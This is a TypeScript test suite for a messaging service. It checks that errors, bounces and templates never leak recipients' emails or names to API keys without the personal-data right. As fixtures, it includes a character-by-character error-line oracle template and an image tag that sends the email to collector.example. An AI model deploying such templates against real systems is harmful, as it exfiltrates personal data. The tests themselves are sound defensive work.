import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, createTenant, startTestService, type Tenant, type TestService } from '../../../test/harness.js';
import { type SmtpReceiver, smtpConfig, startSmtpReceiver } from '../../../test/smtp-receiver.js';
import { deliveryErrors } from './delivery-errors.js';
import { createTemplate, runMail, sendMessages, studyWith } from './test-support.js';

/**
 * Issue 32, item 1: personal data reaches no one without the right, through any field. The
 * assessment recovered every recipient's email one character per send from the line and column
 * of a render error in `lastError`; bounces quoted the address in `lastError` and in the events.
 */

let receiver: SmtpReceiver;
let service: TestService;
beforeAll(async () => {
  receiver = await startSmtpReceiver();
  service = await startTestService(smtpConfig(receiver));
});
afterAll(async () => {
  await service.stop();
  await receiver.close();
});

const suffix = () => Math.random().toString(10).slice(2, 10);
const vocabulary = Object.values(deliveryErrors);

interface MessageDetail {
  messageId: string;
  status: string;
  lastError: string | null;
  events: { type: string; detail: string | null; smtpCode: number | null }[];
}

async function messageDetail(tenant: Tenant, messageId: string, token: string) {
  const response = await call(service, 'GET', `/messages/${messageId}`, { token });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

async function messagesOf(tenant: Tenant, token: string) {
  const response = await call(service, 'GET', '/messages', { token, query: { size: '100' } });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

/** A message's answer without what differs between any two messages (ids, times): what is left may not depend on the person. */
function recipientIndependent(body: MessageDetail & Record<string, unknown>) {
  const { messageId: _m, personId: _p, participantId: _pt, queuedAt: _q, sentAt: _s, failedAt: _f, nextAttemptAt: _n, recipientEmail: _r, events, ...rest } = body;
  return { ...rest, events: events.map(({ type, detail, smtpCode }) => ({ type, detail, smtpCode })) };
}

describe('render and delivery errors shown through the API', () => {
  it("say the same fixed text for every recipient: a template whose failing line depends on a character of the email tells nothing, to a key with or without the personal-data right", async () => {
    const tenant = await createTenant(service);
    const blind = (await tenant.tokenFor('SUPER_ADMIN', { canReadPersonalData: false })).token;
    // The assessment's oracle: a render that fails on line 3 when the email contains "zed" and on
    // line 1 otherwise. Only the recipients' emails (on example.test) reach the long loops: the
    // catalogue's example (ada@example.org), which saving renders within the budget, does not.
    const longLoop = '{% for i in (1..100000000) %}{{ i }}{% endfor %}';
    const templateId = await createTemplate(service, tenant, {
      name: 'Oracle',
      subject: 'Hello',
      textBody:
        `{% unless person.email contains "zed" %}{% if person.email contains "example.test" %}${longLoop}{% endif %}{% endunless %}\n\n` +
        `{% if person.email contains "zed" %}${longLoop}{% endif %}`,
    });
    const withZed = `zed.${suffix()}@example.test`;
    const without = `ann.${suffix()}@example.test`;
    const { studyId, participants } = await studyWith(service, tenant, [
      { email: withZed, firstName: 'Zedekiah' },
      { email: without, firstName: 'Annabel' },
    ]);
    await sendMessages(service, tenant, studyId, { templateId, participantIds: participants.map((participant) => participant.participantId) });
    expect(await runMail(service, tenant)).toMatchObject({ attempted: 2, failed: 2 });
    const listed = (await messagesOf(tenant, tenant.token)).json<{ results: MessageDetail[] }>().results;
    expect(listed).toHaveLength(2);
    for (const token of [tenant.token, blind]) {
      const [first, second] = await Promise.all(listed.map(async (message) => (await messageDetail(tenant, message.messageId, token)).json<MessageDetail & Record<string, unknown>>()));
      expect(first!.lastError).toBe(deliveryErrors.RENDER_FAILED);
      expect(first!.events).toEqual([expect.objectContaining({ type: 'FAILED', detail: deliveryErrors.RENDER_FAILED })]);
      expect(recipientIndependent(first!)).toEqual(recipientIndependent(second!));
      for (const listedMessage of (await messagesOf(tenant, token)).json<{ results: MessageDetail[] }>().results) expect(listedMessage.lastError).toBe(deliveryErrors.RENDER_FAILED);
    }
  });

  it('never quote a bounce: a refused address, a refused message and a temporary refusal each read as a fixed text, with the SMTP code', async () => {
    const tenant = await createTenant(service);
    const blind = (await tenant.tokenFor('SUPER_ADMIN', { canReadPersonalData: false })).token;
    const templateId = await createTemplate(service, tenant);
    const bounced = `bounce.${suffix()}@example.test`;
    const spam = `spam.${suffix()}@example.test`;
    const later = `later.${suffix()}@example.test`;
    const { studyId, participants } = await studyWith(service, tenant, [
      { email: bounced, firstName: 'Bounce' },
      { email: spam, firstName: 'Spam' },
      { email: later, firstName: 'Later' },
    ]);
    receiver.refuseRecipient(bounced, { code: 550, message: `5.1.1 <${bounced}>: Recipient address rejected: User unknown` });
    receiver.refuseRecipient(later, { code: 451, message: `4.7.1 <${later}>: greylisted, try again` });
    await sendMessages(service, tenant, studyId, { templateId, participantIds: [participants[0]!.participantId, participants[2]!.participantId] });
    expect(await runMail(service, tenant)).toMatchObject({ attempted: 2, failed: 1, retrying: 1 });
    await sendMessages(service, tenant, studyId, { templateId, participantIds: [participants[1]!.participantId] });
    receiver.refuseNextData(1, { code: 554, message: `5.7.1 Message to <${spam}> (Spam) rejected as spam` });
    expect(await runMail(service, tenant)).toMatchObject({ attempted: 1, failed: 1 });

    const expected: Record<string, { lastError: string; smtpCode: number }> = {
      [participants[0]!.participantId]: { lastError: deliveryErrors.RECIPIENT_REFUSED, smtpCode: 550 },
      [participants[1]!.participantId]: { lastError: deliveryErrors.MESSAGE_REFUSED, smtpCode: 554 },
      [participants[2]!.participantId]: { lastError: deliveryErrors.TEMPORARY, smtpCode: 451 },
    };
    for (const token of [tenant.token, blind]) {
      const list = await messagesOf(tenant, token);
      for (const value of [bounced, spam, later, 'greylisted', 'User unknown', 'rejected as spam']) expect(list.body, value).not.toContain(value);
      for (const message of list.json<{ results: (MessageDetail & { participantId: string })[] }>().results) {
        const detail = await messageDetail(tenant, message.messageId, token);
        for (const value of [bounced, spam, later, 'greylisted', 'User unknown', 'rejected as spam']) expect(detail.body, value).not.toContain(value);
        const { lastError, smtpCode } = expected[message.participantId]!;
        expect(detail.json()).toMatchObject({ lastError, lastSmtpCode: smtpCode });
        for (const event of detail.json<MessageDetail>().events) expect(vocabulary).toContain(event.detail);
      }
    }
  });

  it('a key without the personal-data right reads no personal value in any field of a message, sent or failed, nested events included', async () => {
    const tenant = await createTenant(service);
    const blind = (await tenant.tokenFor('OBSERVER', { canReadPersonalData: false })).token;
    const templateId = await createTemplate(service, tenant);
    const address = `quill.${suffix()}@example.test`;
    const refused = `refused.${suffix()}@example.test`;
    const { studyId, participants } = await studyWith(service, tenant, [
      { email: address, firstName: 'Quillon' },
      { email: refused, firstName: 'Refusia' },
    ]);
    receiver.refuseRecipient(refused, { code: 550, message: `5.1.1 <${refused}> (Refusia) unknown` });
    await sendMessages(service, tenant, studyId, { templateId, participantIds: participants.map((participant) => participant.participantId) });
    expect(await runMail(service, tenant)).toMatchObject({ attempted: 2, sent: 1, failed: 1 });
    const list = await messagesOf(tenant, blind);
    const bodies = [list.body];
    for (const message of list.json<{ results: MessageDetail[] }>().results) bodies.push((await messageDetail(tenant, message.messageId, blind)).body);
    for (const body of bodies) for (const value of [address, refused, 'Quillon', 'Refusia', 'quill', 'refused.']) expect(body, value).not.toContain(value);
  });
});

describe('templates and a key without the personal-data right', () => {
  const personal = [
    ['the email in an image address', { htmlBody: '<img src="https://collector.example/?e={{ person.email | url_encode }}">' }],
    ['a name in the subject', { subject: 'Hi {{ person.fullName }}' }],
    ['the email through assign', { textBody: '{% assign e = person.email %}{{ e | size }}' }],
    ['a condition on a name', { textBody: '{% if person.firstName == "Ada" %}yes{% endif %}' }],
    ['a bracketed lookup', { textBody: '{{ person["email"] }}' }],
    ['a last name in a loop', { textBody: '{% for c in (1..3) %}{{ person.lastName }}{% endfor %}' }],
  ] as const;

  for (const [what, fields] of personal) {
    it(`may not create or update a template reading ${what}`, async () => {
      const tenant = await createTenant(service);
      const blind = (await tenant.tokenFor('SUPER_ADMIN', { canReadPersonalData: false })).token;
      const base = { name: 'T', subject: 'Hello', textBody: 'About {{ study.externalName }}' };
      const created = await call(service, 'POST', '/message-templates', { token: blind, body: { ...base, ...fields } });
      expect(created.statusCode, created.body).toBe(403);
      expect(created.headers['www-authenticate']).toBe('Bearer error="insufficient_scope", scope="personal-data"');
      const templateId = await createTemplate(service, tenant, base);
      const updated = await call(service, 'PATCH', `/message-templates/${templateId}`, { token: blind, body: fields });
      expect(updated.statusCode, updated.body).toBe(403);
      const read = await call(service, 'GET', `/message-templates/${templateId}`, { token: tenant.token });
      expect(read.json()).toMatchObject(base);
      const list = await call(service, 'GET', '/message-templates', { token: tenant.token });
      expect(list.json<{ total: number }>().total).toBe(1);
      // A key with the right may.
      expect((await call(service, 'POST', '/message-templates', { token: tenant.token, body: { ...base, ...fields } })).statusCode).toBe(201);
    });
  }

  it('may write fields that read no personal value, and preview (masked) and send any template', async () => {
    const tenant = await createTenant(service);
    const blind = (await tenant.tokenFor('SUPER_ADMIN', { canReadPersonalData: false })).token;
    const plain = await call(service, 'POST', '/message-templates', { token: blind, body: { name: 'Plain', subject: 'From {{ workspace.name }}', textBody: 'About {{ study.externalName }}: {{ links.unsubscribe }}' } });
    expect(plain.statusCode, plain.body).toBe(201);
    const withName = await createTemplate(service, tenant);
    // Renaming a template that reads personal values writes none.
    expect((await call(service, 'PATCH', `/message-templates/${withName}`, { token: blind, body: { name: 'Renamed' } })).statusCode).toBe(200);
    const address = `blindsend.${suffix()}@example.test`;
    const { studyId, persons, participants } = await studyWith(service, tenant, [{ email: address, firstName: 'Blindina' }]);
    const previewed = await call(service, 'POST', `/message-templates/${withName}/preview`, { token: blind, body: { personId: persons[0]!.personId, studyId } });
    expect(previewed.statusCode, previewed.body).toBe(200);
    expect(previewed.body).not.toContain('Blindina');
    const sent = await sendMessages(service, tenant, studyId, { templateId: withName, participantIds: [participants[0]!.participantId] }, blind);
    expect(sent.statusCode, sent.body).toBe(200);
    expect(await runMail(service, tenant)).toMatchObject({ sent: 1 });
    expect(receiver.to(address)[0]!.parsed.subject).toContain('Blindina');
  });
});
